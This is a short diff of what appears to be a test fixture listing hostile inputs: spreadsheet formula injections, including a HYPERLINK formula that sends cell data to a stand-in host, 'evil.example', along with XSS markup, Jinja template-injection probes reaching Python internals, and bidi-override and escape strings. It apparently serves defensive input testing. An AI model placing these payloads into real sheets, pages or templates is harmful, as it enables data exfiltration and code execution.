@@ -28,7 +28,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=IMPORTXML("http:
 MARKUP = ['<script>alert("x")</script>', '<img src=x onerror=alert(1)>', "<b>bold</b> &amp; <i>it</i>"]
 JINJA = ["{{ config }}", "{% for x in range(3) %}X{% endfor %}", "{{ 7*7 }}",
          "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__ }}"]
-UNICODE = ["مرحبا بالعالم — שלום \u202eevil\u202c", "👩🏽‍🏫 great meeting 🎉🔥", "tab\there bell\x07 nul-free \x1b[31mred"]
+UNICODE = ["مرحبا بالعالم — שלום \u202eevil\u202c",
+           "👩🏽‍🏫 great meeting 🎉🔥", "tab\there bell\x07 nul-free \x1b[31mred"]
 PAYLOADS = FORMULAS + MARKUP + JINJA + UNICODE
 HUGE = ("long feedback " * 7500)[:100_000]
 GOOGLE_CELL_LIMIT = 50_000
